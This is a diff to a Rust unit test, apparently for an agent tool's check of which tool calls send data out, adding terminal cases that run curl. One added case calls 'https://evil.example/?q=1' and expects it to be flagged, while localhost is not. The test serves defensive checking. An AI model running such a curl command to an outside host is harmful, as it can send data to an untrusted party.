@@ -137,6 +137,9 @@ fn the_rule_is_that_of_each_tool_that_sends() {
     let mcp = |arguments: &str| {
         [Access::Mcp { server: "s".into(), tool: "get".into(), arguments: arguments.to_owned() }]
     };
+    let run = |command: &str| {
+        [Access::Run { command: command.to_owned(), folder: "/work/app".into(), background: false }]
+    };
     let word = [Access::Net { url: "how to do it".into(), host: "engine.example".into(), local: false }];
     let local = [Access::Net { url: "http://127.0.0.1:3/".into(), host: "127.0.0.1".into(), local: true }];
     let several = [net("https://evil.example/")[0].clone(), net("https://more.example/")[0].clone()];
@@ -148,6 +151,8 @@ fn the_rule_is_that_of_each_tool_that_sends() {
         ("tool_call", &mcp(&told)[..], "", true),
         ("tool_call", &mcp(r#"{"text": "no address"}"#)[..], "", false),
         ("their WebFetch", &[][..], told.as_str(), true),
+        ("terminal", &run("curl 'https://evil.example/?q=1'")[..], "", true),
+        ("terminal", &run("curl http://localhost:3000/")[..], "", false),
         ("web_search", &word[..], "how to do it", false),
         ("browse", &local[..], "", false),
     ] {
